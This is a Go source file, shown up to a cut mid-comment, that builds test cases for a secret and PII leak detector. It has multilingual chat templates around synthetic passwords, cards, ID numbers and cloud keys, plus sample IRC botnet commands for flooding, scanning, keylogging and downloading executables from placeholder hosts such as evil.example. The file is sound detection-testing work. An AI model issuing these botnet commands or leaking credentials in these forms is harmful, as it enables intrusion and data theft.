package main

import (
	"fmt"
	"regexp"
	"strings"
)

// template renders one message around a fake value.
type template func(g gen) string

// ruleTemplates are, per rule, the ways a value shows up in chat.
func ruleTemplates() map[string][]template {
	f := func(format string, v func(g gen) string) template {
		return func(g gen) string { return fmt.Sprintf(format, v(g)) }
	}
	card, iban := gen.card, func(g gen) string { return g.iban(g.r.IntN(2) == 0) }
	ssnDash := func(g gen) string { return g.ssn(g.one("-", "-", " ")) }
	ssnBare := func(g gen) string { return g.ssn("") }
	pw := gen.password
	aws := func(g gen) string { return g.entropic(b64chars, 40, 4.4) }
	gh := gen.githubClassic
	ghFine := func(g gen) string { return "github_pat_" + g.pick(alnum, 22) + "_" + g.pick(alnum, 59) }
	glpat := func(g gen) string { return g.one("glpat-", "glpat-", "glrt-", "gldt-") + g.entropic(alnum, 20, 3.8) }
	stripe := func(g gen) string { return g.one("sk_live_", "rk_live_") + g.pick(alnum, g.one2([]int{24, 34, 99})) }
	google := func(g gen) string { return "AIza" + g.pick(alnum+"_-", 35) }
	azure := func(g gen) string { return g.pick(b64chars, 86) + "==" }
	generic := func(g gen) string { return g.entropic(alnum, g.num(20, 40), 3.9) }
	// credential-pair-near's values: capitals and two digits (8KQ3ZP2M), a
	// word of nine letters or more and one digit (Mitochondrie3), groups
	// joined by hyphens (GM-fari-2209).
	pairCode := func(g gen) string {
		return g.pick("ABCDEFGHJKLMNPQRSTUVWXYZ", 3) + g.pick(digits, 1) + g.pick("ABCDEFGHJKLMNPQRSTUVWXYZ", 2) + g.pick(digits, 1) + g.pick("ABCDEFGHJKLMNPQRSTUVWXYZ", 1)
	}
	wordDigit := func(g gen) string {
		return g.one("Mitochondrie", "Girafeblanche", "Tortugalenta", "Leuchtturm", "Harbourside") + g.one("1", "2", "3", "4", "5", "6", "7", "8", "9")
	}
	pairGroups := func(g gen) string {
		return g.pick("ABCDEFGHJKLMNPQRSTUVWXYZ", 2) + "-" + g.one("fari", "lupo", "mond", "tide") + "-" + g.pick(digits, 4)
	}
	m := map[string][]template{
		"payment-card": {f("here is the card for the hotel booking: %s exp 12/27", card), f("can you charge %s for the conference fees?", card),
			f("%s", card), f("pls use %s, cvv is on the back", card), f("Card number: %s\nName on card: J. Doe", card),
			f(`{"text":"my card %s"}`, card), f("Booking ref QX7 / cc %s / thanks!", card)},
		"iban":               {f("IBAN %s for the refund", iban), f("please wire the deposit to %s today", iban), f("bank details: %s (BIC on the invoice)", iban)},
		"us-aba-routing":     {f("routing number %s, account 000123456789", gen.aba), f("ABA: %s", gen.aba), f("our bank's RTN is %s", gen.aba)},
		"us-ssn":             {f("my SSN is %s for the HR form", ssnDash), f("employee ssn %s, start date monday", ssnDash), f("%s is the number on the W-2", ssnDash)},
		"us-ssn-unformatted": {f("SSN %s", ssnBare), f("social security number: %s", ssnBare)},
		"uk-nino":            {f("my NI number is %s", gen.nino), f("National Insurance: %s", gen.nino), f("%s is on the P60", gen.nino)},
		"uk-nhs-number":      {f("NHS number %s", gen.nhs), f("patient NHS no: %s, ward 4", gen.nhs)},
		"canada-sin":         {f("SIN: %s", gen.sin), f("my SIN is %s", gen.sin), f("social insurance number %s", gen.sin)},
		"india-aadhaar":      {f("Aadhaar %s", gen.aadhaar), f("aadhar no. %s for KYC", gen.aadhaar), f("UIDAI number %s", gen.aadhaar)},
		"password-assignment": {f("password=%s for the shared mailbox", pw), f("user: svc-backup pwd: %s", pw), f("PASSWD='%s'", pw), f("db pass: %s", pw), f("new wifi password: %s", pw), f(`{"username":"svc","password":"%s"}`, pw),
			f("PGPASSWORD=%s psql -h db.internal -U etl", pw), f("export DB_PASSWORD=%s", pw), f("Passwort: %s", pw), f("mot de passe : %s", pw), f("contraseña: %s", pw), f("pw: %s", pw), f("MYSQL_PWD=%s mysqldump app", pw)},
		"password-disclosure": {f("the password is %s", pw), f("wifi password is %s btw", pw), f("pass for the VPN: %s", pw), f("password → %s", pw), f("what's the password?\n%s", pw),
			f("whats the wifi password?\nit's %s", pw), f("the password for the staging db is %s", pw), f("das Passwort ist %s", pw), f("Passwort für den Server: %s", pw), f("Kennwort lautet %s", pw),
			f("le mot de passe est %s", pw), f("mdp du wifi : %s", pw), f("la contraseña es %s", pw), f("la clave del wifi es %s", pw), f("pwd %s", gen.capPassword), f("new password %s, change it after login", gen.capPassword)},
		"password-word": {f("the wifi password is %s", gen.wordPassword), f("guest wifi password: %s", gen.wordPassword), f("pwd for the printer is %s.", gen.wordPassword),
			f("the password is %s, don't share it", gen.wordPassword), f("das WLAN Passwort ist %s", gen.wordPassword), f("le mot de passe du wifi est %s", gen.wordPassword),
			f("la contraseña es %s", gen.wordPassword), f("what was it... the password is still %s", gen.wordPassword), f("password → %s", gen.wordPassword)},
		"password-word-for": {f("pw for the shared mailbox: %s", gen.wordPassword), f("pw for the printer: %s", gen.wordPassword), f("pw to the guest wifi = %s", gen.wordPassword)},
		"credential-pair": {f("login admin / %s", pw), f("login: admin / %s", pw), f("creds: svc_backup:%s", pw), f("credentials admin/%s", pw), f("user root pass %s", pw), f("mysql -h db.internal -u root -p%s", pw), f("mysqldump -u backup -p%s app > app.sql", pw), f("psql --username etl --password %s", pw),
			f("machine ftp.corp.example login deploy password %s", pw), f("printf '%s' | kinit bob@CORP.EXAMPLE", pw)},
		"login-phrase": {f("use %s to log in", gen.pwWithDigit), f("just use %s to sign in", gen.pwWithDigit), f("you can use %s for login on the kiosk", gen.pwWithDigit), f("use '%s' to unlock the laptop", gen.pwWithDigit)},
		"password-change": {f("the wifi password got rotated, it's now %s", gen.pwWithDigit), f("le mot de passe a changé, c'est %s maintenant", gen.pwWithDigit),
			f("Dein Passwort ist zurückgesetzt auf %s", gen.pwWithDigit), f("Cambié la contraseña, ahora es %s", gen.pwWithDigit), f("mot de passe du compte réinitialisé -> %s", gen.pwWithDigit)},
		"password-chat": {f("can u send me the router password\n%s\nthx", gen.pwWithDigit), f("Wifi: Guest-5G\nKey: %s", gen.pwWithDigit), f("WLAN: Office\nSchlüssel: %s", gen.pwWithDigit), f("PW fürs Gäste-WLAN ist %s", gen.pwWithDigit)},
		"login-with": {f("log in as etl_svc with %s", gen.pwWithDigit), f("sign in with %s, username is your email", gen.pwWithDigit), f("connecte-toi avec svc_backup et %s", gen.pwWithDigit),
			f("puedes entrar con admin y %s", gen.pwWithDigit), f("meld dich mit %s an", gen.pwWithDigit)},
		"access-code": {f("door code for the server room: %s#", gen.pin), f("alarm code is %s, you have 30 sec", gen.pin), f("PIN for the copier login is %s", gen.pin),
			f("PIN fürs Diensthandy: %s", gen.pin), f("code porte : %s", gen.pin), f("el código de la puerta es %s", gen.pin), f("el código de la taquilla es %s", gen.pin)},
		"labelled-secret": {f("VPN pre-shared key: %s", gen.labelledSecret), f("RADIUS shared secret for the new AP is %s", gen.labelledSecret), f("BitLocker recovery key for your laptop:\n%s", gen.labelledSecret),
			f("clé partagée du VPN : %s", gen.labelledSecret), f("WPA2 key for the guest network: %s", gen.labelledSecret), f("clave precompartida de la VPN: %s", gen.labelledSecret)},
		"password-next-message": {f("pw in the next message\n%s", gen.pwWithDigit), f("mdp dans le prochain message\n%s", gen.pwWithDigit), f("te paso la pass en el siguiente mensaje\n%s", gen.pwWithDigit),
			f("PW kommt in der nächsten Nachricht\n%s", gen.pwWithDigit)},
		"login-pair": {f("svc_backup / %s", gen.strongPassword), f("m.keller / %s", gen.strongPassword), f("admin del router: admin / %s", gen.strongPassword),
			f("router admin page is 192.168.1.1, admin / %s", gen.strongPassword)},
		"password-answer": {f("it's %s\ncheers", gen.strongPassword), f("Buenos días! es %s", gen.strongPassword), f("ist %s", gen.strongPassword),
			f("try %s — that's what I set last week", gen.strongPassword), f("DM'ing is broken so here: %s 🙏", gen.strongPassword), f("c'est %s (avec un S majuscule)", gen.strongPassword)},
		"cli-password": {f("xfreerdp /v:10.0.0.5 /u:administrator /p:%s /cert:ignore", gen.strongPassword), f("psexec \\\\srv01 -u CORP\\admin -p %s cmd", gen.strongPassword),
			f("ipmitool -I lanplus -H 10.0.0.9 -U ADMIN -P %s chassis status", gen.strongPassword), f("ldapsearch -x -H ldap://dc01 -D cn=svc,dc=corp -w %s -b dc=corp", gen.strongPassword),
			f("mongo -u admin -p %s --authenticationDatabase admin", gen.strongPassword), f("keytool -importcert -keystore app.jks -storepass %s -file ca.pem", gen.strongPassword), f("perforce: p4 -u build_farm -P %s sync //depot/main/...", gen.strongPassword)},
		"sql-password": {f("CREATE USER 'app'@'%%' IDENTIFIED BY '%s';", gen.strongPassword), f("ALTER ROLE etl WITH LOGIN PASSWORD '%s';", gen.strongPassword),
			f("CREATE USER 'grafana'@'10.%%' IDENTIFIED WITH caching_sha2_password BY '%s';", gen.strongPassword), f("ALTER USER scott IDENTIFIED BY %s;", gen.strongPassword),
			f("CREATE USER IF NOT EXISTS sandy WITH PASSWORD '%s' NOSUPERUSER;", gen.strongPassword), f("created the reporting user:\n```sql\nCREATE USER reporting WITH ENCRYPTED PASSWORD '%s';\n```", gen.strongPassword)},
		"basic-auth-code": {f(`requests.post(url, auth=("facturation", "%s"))`, gen.strongPassword), f("r = requests.get(API, auth=HTTPBasicAuth('svc_export', '%s'))", gen.strongPassword),
			f(`req.SetBasicAuth("grafana", "%s")`, gen.strongPassword), f(`var cred = new NetworkCredential("scanner", "%s");`, gen.strongPassword)},
		"password-nearby": {f("j'ai changé le mdp du compte partagé \"accueil\" sur les bornes, nouveau = %s", gen.strongPassword),
			f("le compte commun a un nouveau mot de passe depuis la migration 👉 %s", gen.strongPassword),
			f("Wi-Fi in the lab: network LAB-5G, and it asks for %s (capital first letter)", gen.strongPassword),
			f("you can use the shared account until yours is ready:\ninterns.oncall\n%s", gen.strongPassword)},
		"passphrase-nearby": {f("le mot de passe on l'a mis à %s", gen.passphrase), f("WPA2 for the van router → %s", gen.passphrase),
			f("Kennwort vom Drucker steht jetzt auf %s", gen.passphrase)},
		"password-word-number": {f("Kennwort lautet übrigens %s – steht in keinem Wiki, also merken", gen.wordNumber),
			f("mot de pase de la borne de la salle de conf : %s", gen.wordNumber), f("AP del evento de mañana, WPA2 clave %s", gen.lowerWordNumber),
			f("Passwort ist übrigens alles klein geschrieben: %s", gen.wordNumber)},
		"credential-slash-word-number": {f("what's the login for the night editor mac?\n\nnighteditor / %s", gen.wordNumber),
			f("Acceso a la app de estadísticas, cuenta compartida: analisis@club / %s", gen.lowerWordNumber),
			f("le compte du poste d'accueil : accueil / %s", gen.wordNumber)},
		"credential-slash": {f("🔑 airtable: hello@ourteam / %s", gen.strongPassword), f("ups web card: apc / %s", gen.strongPassword),
			f("tableau de bord des ventes : viewer / %s, lecture seule", gen.strongPassword), f("Wartungszugang vendor.support / %s bis Freitag", gen.strongPassword)},
		"credential-pair-near": {f("on call pls log in to the ilo on esx07, Administrator / %s — the factory one off the tag", pairCode),
			f("le compte de l'ordi du labo c'est labo-svt / %s , ça marche pas chez moi", wordDigit), f("can you log in as me? it's rkhan + %s — I'll change it after", gen.wordNumber),
			f("entra con el mio q el tuyo no va: jgarcia / %s", gen.wordNumber), f("Die neuen Zugangsdaten fürs Extranet: login 00418-BM / pass %s", pairGroups)},
		"code-nearby": {f("the fridge in the pharmacy, its code changed: %s. The old one no longer works", gen.pin),
			f("Alarme de l'agence : code de désactivation %s puis #", gen.pin), f("el código del candado de la taquilla 12 es %s", gen.pin),
			f("Code für den Schlüsselkasten neben der Tür: %s", gen.pin)},
		"password-hint-after": {f("pwd is all lowercase: %s", gen.lowerPassword), f("ojo que es todo en minúsculas: %s", gen.lowerPassword),
			f("le mdp est tout en minuscules : %s", gen.lowerPassword), f("Passwort, alles kleingeschrieben: %s", gen.lowerPassword)},
		"backup-code": {f("Bank token backup code: %s (only use if the app dies)", gen.pin), f("entre a la banca interna con el código de respaldo %s", gen.pin),
			f("your laptop's first-time code is %s, it'll make you set your own after", gen.pin), f("Notfallcode für den Tresor-Account: %s", gen.pin)},
		"credential-slash-passphrase": {f("entra con el usuario de guardia, oncall / %s, y revisa los pods", gen.passphrase), f("Cuenta GitHub compartida de QA: qa-startup / %s", gen.passphrase),
			f("Accès à l'interface de la box : admin / %s. Si tu peux rester", gen.passphrase), f("Grafana → admin : %s", gen.passphrase)},
		"meeting-passcode": {f("Für die Fortbildung morgen: Zoom-Kenncode ist %s, Meeting-ID schick ich gleich", gen.pin), f("Zoom call at 10, code secret %s", gen.pin),
			f("la visio Teams, code secret d'accès c'est %s", gen.pin), f("webex Sitzungskennwort %s", gen.pin)},
		"code-given": {f("Lads the new code for the bike shed is %s", gen.pin), f("Code für d'Garderobe im 2. Stock isch %s", gen.pin),
			f("Code de sécurité du SAS de livraison : %s (tapez-le sans espaces)", gen.pin), f("el código nuevo del vestuario es %s", gen.pin),
			f("Le code de l'immeuble au 14 rue Lepic c'est %s, la porte du local vélos c'est la même", gen.doorCode), f("donne-lui le code %s de la porte du toit stp", gen.doorCode)},
		"code-reply": {f("— c'est quoi le code de la boîte à clés rue Caulaincourt ?\n— %s\n— merci t'es un chef", gen.pin), f("Hast du den PIN vom Kopierer?\n> ja, %s (Admin-Menü)", gen.pin),
			f("what's the code for the bike cage?\n%s and pull hard", gen.pin), f("¿alguien tiene el código del vestuario?\n—sí, %s", gen.pin)},
		"alarm-disarm-code": {f("la alarma de la tienda ahora se desactiva con %s y luego OFF", gen.pin), f("Alarmanlage Lager: unscharf mit %s, dann Taste #", gen.pin),
			f("la centrale du bureau se désactive avec %s", gen.pin), f("alarm panel by the warehouse door: deactivate with %s", gen.pin)},
		"key-emoji": {f("📶 Wifi salle d'embarquement B : SSID TERM-B-STAFF 🔑 %s", gen.strongPassword), f("🔑 floor manager tablet unlock: %s", gen.strongPassword),
			f("Gäste-WLAN 🔑: %s", gen.strongPassword), f("nuevo acceso al NAS 🔑 %s (no lo reenvíes)", gen.strongPassword)},
		"code-typed": {f("the lab tablet has a little lock screen, tap the corner and enter %s", gen.unitCode), f("staff door after hours: punch %s* on the pad", gen.unitCode),
			f("pour le menu admin du copieur il faut taper %s sur le pavé", gen.unitCode), f("la puerta de atrás tiene teclado, meted %s y empujad fuerte", gen.unitCode)},
		"code-typed-before": {f("Alarmanlage Hintereingang: falls es piept, nochmal %s eintippen", gen.unitCode), f("das Diensthandy mit %s entsperren", gen.unitCode),
			f("am Tastenfeld %s eingeben und dann die Tür fest ziehen", gen.unitCode), f("Tresor: %s und # drücken, dann drehen", gen.unitCode)},
		"wifi-qr": {f("QR code du wifi invités décodé :\nWIFI:T:WPA;S:DC-VISITEURS;P:%s;;", gen.strongPassword), f("WIFI:S:Lager Halle 2;T:WPA;P:%s;H:false;;", gen.strongPassword),
			f("here's the guest QR as text: WIFI:T:WPA2;S:Cafe-Gaeste;P:%s;;", gen.strongPassword), f("der QR am Empfang sagt WIFI:T:WPA;P:%s;S:Praxis-Gast;; falls das Scannen nicht geht", gen.strongPassword)},
		"code-compound": {f("Torcode Baustelleneinfahrt Gewerbepark Nord: *%s#", gen.unitCode), f("für die Freigabe im Raum Isar brauchst du den Raumcode %s", gen.unitCode),
			f("Ihr persönlicher Deaktivierungscode ist %s.", gen.unitCode), f("der Kellercode hat sich geändert, jetzt %s", gen.unitCode)},
		"password-split": {f("la del portal del banco es\n%s\ntodo junto sin espacios", gen.splitPassword), f("Le mot de passe c'est les deux morceaux collés :\n%s", gen.splitPassword),
			f("the vpn password, in two lines so slack doesn't eat it:\n%s\n(all one word, together)", gen.splitPassword), f("Passwort fürs NAS in zwei Teilen, zusammen ohne Leerzeichen:\n%s", gen.splitPassword)},
		"password-reversed": {f("Drucker 2. OG → Benutzer admin, Passwort ist die Seriennummer rückwärts, also: %s", gen.strongPassword), f("scanner login: user admin, password is just the serial backwards: %s", gen.strongPassword),
			f("le mdp c'est le nom du chef à l'envers, donc : %s", gen.strongPassword), f("la clave es el apellido del jefe al revés → %s", gen.strongPassword)},
		"bitlocker-recovery-key": {f("here's the recovery one for the CFO's laptop (he's on the phone): %s", gen.bitLockerKey), f("%s", gen.bitLockerKey),
			f("Wiederherstellung für den Laptop von Frau Kern:\n%s\nBitte danach löschen", gen.bitLockerKey), f("la clé pour débloquer le portable de l'accueil → %s", gen.bitLockerKey)},
		"code-place": {f("the safe in the finance office: %s, turn left first", gen.pin), f("Le cadenas du placard serveur : %s", gen.pin),
			f("El candado del locker 14 es %s, ahí dejé las tarjetas", gen.pin), f("Schließfach im Keller: %s", gen.pin)},
		"wifi-key": {f("guest wifi for the vendor visit: network ACME-Guest, key %s", gen.strongPassword), f("SSID: BUS-ATELIER-4G\nClé WPA2: %s", gen.strongPassword),
			f("WLAN vom Gerät verbinden, Schlüssel '%s' und dann in der App auf Wiedergabe", gen.strongPassword), f("WLAN Lager: SSID Lager-Gast, PSK %s", gen.strongPassword)},
		"file-opens-with": {f("The spreadsheet for the audit opens with %s, don't forward it", gen.wordNumber), f("le zip du comptable s'ouvre avec %s normalement", gen.wordNumber),
			f("el zip adjunto va protegido con %s, lo pongo aquí y no en el correo", gen.wordNumber), f("Die Zip vom Steuerberater geht mit %s auf", gen.wordNumber)},
		"code-keyed": {f("Check-in: the lockbox is on the railing by the steps, %s. Big key = front door", gen.keyedCode), f("wenn du hinten reinkommst, tipp einfach %s und zieh kräftig", gen.keyedCode),
			f("cuando llegues por detrás marca %s y tira fuerte que se atasca", gen.keyedCode), f("Kühlraum Küche Tastatur: %s", gen.keyedCode)},
		"entry-code": {f("server room door: %s then push hard, it sticks", gen.unitCode), f("puerta del vestuario visitante -> %s", gen.unitCode),
			f("Le PIN de la carte SIM du téléphone d'astreinte : %s", gen.unitCode), f("badge visiteur salle blanche → code %s valable jusqu'à vendredi", gen.unitCode)},
		"xml-password": {f("<server><id>nexus</id><username>deploy</username><password>%s</password></server>", gen.strongPassword),
			f("<db.password>%s</db.password>", gen.strongPassword), f("settings.xml:\n<password>%s</password>", gen.strongPassword)},
		"account-pair": {f("Testaccount: lager01:%s", gen.strongPassword), f("cuenta de pruebas a.lopez:%s", gen.strongPassword), f("test account svc_backup:%s", gen.strongPassword),
			f("compte de test : recette:%s", gen.strongPassword)},
		"password-hint": {f("it's %s but with a capital first letter", gen.lowerPassword), f("c'est %s avec une majuscule au début", gen.lowerPassword),
			f("es %s con la primera en mayúscula", gen.lowerPassword), f("ist %s, erster Buchstabe groß", gen.lowerPassword)},
		"password-set": {f("I set it to %s for now, change it after your first login", gen.strongPassword), f("reset yours to %s, it'll make you pick a new one", gen.strongPassword),
			f("je l'ai mis à %s pour l'instant", gen.strongPassword), f("la puse en %s de momento", gen.strongPassword)},
		"password-set-named": {f("hab Lukas sein Laptop-Kennwort auf %s gesetzt, er hatte es wieder vergessen", gen.wordNumber), f("j'ai remis le mot de passe Doctolib du cabinet à %s après le blocage", gen.wordNumber),
			f("Cambié la contraseña del Holded a %s porque se bloqueó", gen.wordNumber), f("PW der Lizenzverwaltung geändert → %s", gen.wordNumber)},
		"password-recipe": {f("for Marie's laptop it's her first name + the year, so %s", gen.wordNumber), f("Tipp: Name vom Dackel plus Jahr, also %s", gen.wordNumber),
			f("c'est le nom du chien suivi de l'année, donc %s", gen.wordNumber), f("es el nombre del perro más el año, o sea %s", gen.wordNumber)},
		"config-key-password": {f(`<add key="SmtpPassword" value="%s" />`, gen.strongPassword), f(`<add key='Db.Password' value='%s' />`, gen.strongPassword)},
		"pgpass-entry":        {f("my ~/.pgpass has localhost:5432:app:etl:%s", pw), f("db.internal:5432:*:report:%s", pw), f("10.0.3.7:6432:orders:svc_orders:%s", pw), f("*:*:*:postgres:%s", pw)},
		"url-credentials": {f("clone https://deploy:%s@git.corp.example/team/app.git", gen.urlPassword), f("ftp://backup:%s@files.corp.example/nightly/", gen.urlPassword),
			f("proxy: http://alice:%s@proxy.corp.example:3128", gen.urlPassword), f("sftp://ops:%s@10.0.4.2/upload", gen.urlPassword)},
		"private-key":       {f("here's the deploy key\n%s", gen.pemKey), f("%s", gen.pemKey), f(`{"type":"service_account","private_key":"%s"}`, jsonEscapedKey)},
		"aws-access-key-id": {f("aws creds for the sandbox: %s", gen.awsKeyID), f("AWS_ACCESS_KEY_ID=%s", gen.awsKeyID), f("key id %s (prod account)", gen.awsKeyID)},
		"aws-secret-key": {f("aws_secret_access_key = %s", aws), f("AWS secret: %s", aws), f("AWS_SECRET_ACCESS_KEY: %s (rotate it after)", aws), f("[default]\naws_secret_access_key=%s", aws),
			func(g gen) string {
				return fmt.Sprintf(`{"AccessKey": {"UserName": "ci", "AccessKeyId": "%s", "Status": "Active", "SecretAccessKey": "%s"}}`, g.awsKeyID(), aws(g))
			},
			func(g gen) string {
				k := aws(g)
				return fmt.Sprintf("$ aws configure\nAWS Access Key ID [None]: %s\nAWS Secret Access Key [****************%s]: %s", g.awsKeyID(), k[36:], k)
			},
			func(g gen) string { return fmt.Sprintf("Access key ID,Secret access key\n%s,%s", g.awsKeyID(), aws(g)) },
			func(g gen) string { return fmt.Sprintf("here you go: %s / %s", g.awsKeyID(), aws(g)) },
			f("new key for the ci user, the id is in the vault: %s", aws), f("%s", aws)},
		"github-token":              {f("use %s to clone", gh), f("GITHUB_TOKEN=%s", gh), f("ci token %s expires friday", gh)},
		"github-fine-grained-token": {f("token %s", ghFine), f("GH_PAT=%s", ghFine)},
		"gitlab-token":              {f("export GITLAB_TOKEN=%s", glpat), f("gitlab token %s for the runner", glpat)},
		"slack-token":               {f("SLACK_BOT_TOKEN=%s", gen.slackToken), f("bot token is %s", gen.slackToken)},
		"slack-webhook":             {f("post alerts to %s", gen.slackWebhook), f("webhook: %s", gen.slackWebhook)},
		"stripe-secret-key":         {f("STRIPE_KEY=%s", stripe), f("live key %s, don't commit it", stripe)},
		"google-api-key":            {f("maps key %s", google), f("https://maps.googleapis.com/maps/api/geocode/json?key=%s&address=paris", google)},
		"azure-storage-key":         {f("DefaultEndpointsProtocol=https;AccountName=corpdata;AccountKey=%s;EndpointSuffix=core.windows.net", azure)},
		"jwt":                       {f("Authorization: Bearer %s", gen.jwt), f("session cookie is %s", gen.jwt), f("try this token %s", gen.jwt), f("Cookie: session=%s; Path=/; HttpOnly", gen.jwt)},
		"database-url": {f("db url is %s", gen.dbURL), f("DATABASE_URL=%s", gen.dbURL), f("connect with %s", gen.dbURL),
			func(g gen) string { u, _ := g.jdbcURL(); return "spring.datasource.url=" + u }},
		"db-connection-string": {f("ConnectionStrings__Default=\"%s\"", gen.odbcString), f("try this in the config: %s", gen.odbcString), f("%s", gen.odbcString)},
		"generic-secret":       {f("client_secret: %s", generic), f(`API_KEY="%s"`, generic), f("signing_key = %s", generic), f("secret=%s", generic)},
	}
	for k, v := range euIDTemplates() {
		m[k] = v
	}
	return m
}

// passwordKey finds a password parameter of a connection string.
var passwordKey = regexp.MustCompile(`(?i)(?:^|[^a-z])(?:password|pwd)=`)

// netrcBoth finds a .netrc password that does not start in lowercase.
var netrcBoth = regexp.MustCompile(`login \S+ password [^a-z\s/~.$%-]`)

// awsShaped finds a value of exactly 40 base64 characters.
var awsShaped = regexp.MustCompile(`(?:^|[^A-Za-z0-9/+_.-])([A-Za-z0-9/+]{40})(?:$|[^A-Za-z0-9/+=_.-])`)

// akiaIn finds an AWS access key id.
var akiaIn = regexp.MustCompile(`\b(?:AKIA|ASIA)[A-Z2-7]{16}\b`)

// awsSecretIn reports a standalone 40-character base64 value with upper-
// and lowercase letters, a digit and high entropy: what an AWS secret
// access key looks like.
func awsSecretIn(text string) bool {
	for _, m := range awsShaped.FindAllStringSubmatch(text, -1) {
		v := m[1]
		if strings.ContainsAny(v, upper) && strings.ContainsAny(v, "abcdefghijklmnopqrstuvwxyz") && strings.ContainsAny(v, digits) && entropy(v) >= 4.2 {
			return true
		}
	}
	return false
}

// padded surrounds msg with ordinary chat lines, about 750 bytes each side.
func padded(g gen, msg string) string {
	var before, after []string
	for n := 0; n < 750; n += len(before[len(before)-1]) {
		before = append(before, chatLines[g.r.IntN(len(chatLines))])
	}
	for n := 0; n < 750; n += len(after[len(after)-1]) {
		after = append(after, chatLines[g.r.IntN(len(chatLines))])
	}
	return strings.Join(before, "\n") + "\n" + msg + "\n" + strings.Join(after, "\n")
}

// jsonEscapedKey is a PEM key as it appears inside a JSON string.
func jsonEscapedKey(g gen) string { return strings.ReplaceAll(g.pemKey(), "\n", `\n`) }

// ircCases are bot command lines arriving over IRC.
var ircCases = map[string][]string{
	"irc-bot-flood":    {"!ddos 203.0.113.7 80 600", ".udpflood 198.51.100.20 53 120", "@syn 192.0.2.1 443", "!ddos.stop", "!httpflood http://victim.example/ 300", ".slowloris 203.0.113.9 80", "!tcpflood 192.0.2.44 22 60"},
	"irc-bot-download": {"!download http://198.51.100.9/bot.exe C:\\temp\\svchost.exe 1", ".update http://evil.example/v2.exe", "@dlexec ftp://203.0.113.5/payload.bin", "!dl http://203.0.113.8/m.exe", "!wget http://198.51.100.3/x86 /tmp/.x"},
	"irc-bot-scan":     {"!scan 10.0.0.0/8 445", ".advscan lsass 200 5 0 -r -s", "!portscan 192.0.2.0 1-1024", "!sshscan 198.51.100.0/24", ".scan.stop"},
	"irc-bot-login":    {"!login h4x0rpass", ".auth s3cret", ".l b0tm4st3r", "!logon x9k2m"},
	"irc-bot-control":  {"!spread", ".botkill", "@sysinfo", "!socks5 1080", "!keylog on", ".killav"},
	// NICK and JOIN lines reach the rules as the extractor presents them.
	"irc-bot-nick":   {"NICK [USA|XP]123456", "NICK [DEU|W7|x64]0042", "NICK USA|XP|8841023", "NICK [GBR|2K]77123", "NICK :[FRA|W10]918273"},
	"irc-keyed-join": {"JOIN #b0tn3t s3cr3tk3y", "JOIN #a,#b k1,k2", "JOIN #x0x hunter", "JOIN &ctl k3y"},
}

func positives(g gen, n int) []Case {
	var out []Case
	tmpls := ruleTemplates()
	// shortOnly: rules with a max_length that a long message exceeds.
	shortOnly := map[string]bool{"password-answer": true}
	for _, id := range sortedKeys(tmpls) {
		ts := tmpls[id]
		for i := 0; i < n; i++ {
			out = append(out, alsoFound(Case{Text: ts[i%len(ts)](g), Rules: []string{id}}))
		}
	}
	for _, id := range sortedKeys(tmpls) {
		// One long message per rule: the value buried in ~1.5 KB of chat;
		// a rule for short messages alone (max_length) must stay quiet there.
		c := alsoFound(Case{Text: padded(g, tmpls[id][0](g)), Rules: []string{id}, Note: "long"})
		if shortOnly[id] {
			continue
		}
		out = append(out, c)
	}
	for _, id := range sortedKeys(ircCases) {
		for _, line := range ircCases[id] {
			out = append(out, Case{Text: line, Rules: []string{id}, Direction: "inbound", Service: "irc"})
		}
	}
	return out
}

// alsoFound adds to c the other rules its value rightly falls under.
func alsoFound(c Case) Case {
	id := c.Rules[0]
	if (id == "database-url" || id == "db-connection-string") && passwordKey.MatchString(c.Text) {
		// A password=/Pwd= parameter is also a password assignment.
		c.Rules = append(c.Rules, "password-assignment")
	}
	if netrcBoth.MatchString(c.Text) {
		// A .netrc line's "password X" is also the bare form of
		// password-disclosure when X does not start in lowercase.
		c.Rules = append(c.Rules, "password-disclosure")
	}
	if id != "password-chat" && requestLine.MatchString(c.Text) {
		// The answer on the line after "what's the password?" is also
		// password-chat's request line.
		c.Rules = append(c.Rules, "password-chat")
	}
	if id != "bitlocker-recovery-key" && bitLockerIn.MatchString(c.Text) {
		// A labelled BitLocker key is a BitLocker key.
		c.Rules = append(c.Rules, "bitlocker-recovery-key")
	}
	if id != "generic-secret" && genericIn(c.Text) {
		// A value given to a secret-like key ("AWS secret: ...",
		// GITHUB_TOKEN=...) is also a generic secret assignment.
		c.Rules = append(c.Rules, "generic-secret")
	}
	if id != "aws-secret-key" && awsSecretIn(c.Text) {
		// 40 high-entropy base64 characters standing alone are also the
		// shape of an AWS secret access key.
		c.Rules = append(c.Rules, "aws-secret-key")
	}
	if id == "aws-secret-key" && akiaIn.MatchString(c.Text) {
		c.Rules = append(c.Rules, "aws-access-key-id")
	}
	if id != "password-disclosure" && (labelWordsIn.MatchString(c.Text) || isLabelIn(c.Text)) {
		// A password word, a preposition (or "ist", "this") and up to
		// eight words before ":" or "=" are password-disclosure's label.
		c.Rules = append(c.Rules, "password-disclosure")
	}
	if id != "code-given" && codeGivenIn.MatchString(c.Text) {
		// A code after "code" or "PIN", some words and ":" or "is" is
		// also code-given's.
		c.Rules = append(c.Rules, "code-given")
	}
	if id != "code-room-said" && roomCodeIn.MatchString(c.Text) {
		// A code after a German compound that names a room, a cellar or a
		// cupboard ("Kühlraum Küche Tastatur: …") and ":" is also
		// code-room-said's.
		c.Rules = append(c.Rules, "code-room-said")
	}
	if id == "private-key" && gcpKeyIn.MatchString(c.Text) {
		// A PKCS#8 or RSA key in a service-account JSON is also what
		// gcp-service-account finds.
		c.Rules = append(c.Rules, "gcp-service-account")
	}
	return c
}

// requestLine is a question for a password and the answer on the next
// line, with a digit or a symbol in it.
var requestLine = regexp.MustCompile(`(?i)\b(?:password|passwort|mdp|clave|wifi|wlan)\?\n\S*[^\sA-Za-z]\S*$`)

// labelWordsIn is a password word, then a preposition, "ist", "this" or
// the like and up to eight words, then ":" or "=" and a value (an arrow
// counts too, but not after "réinitialisé": left to the templates).
var labelWordsIn = regexp.MustCompile(`(?i)(?:^|[^\w-])(?:password|passwort|kennwort|passphrase|passcode|pwd|pword|passwd|mdp|mot de passe|motdepasse|contraseña|contrasena|clave|pass)\b[ \t](?:for|to|of|on|at|in|für|fürs|fürn|zu[mr]|vom|von|im|am|bei|pour|du|des|de|para|del|al|en|ist|this|today|heute|diese[nrs]?|cette|esta|hoy)(?:[ \t][^\s:=?]{1,20}){1,8}?[ \t]?[:=][ \t]{0,2}["'\x60«“„»”]?[^\s"'\x60<>«»“”„]{4,64}`)

// isLabelWordsIn is password-disclosure's label of a password word,
// "is", "est" or "es" and up to fourteen words before ":", "=" or an
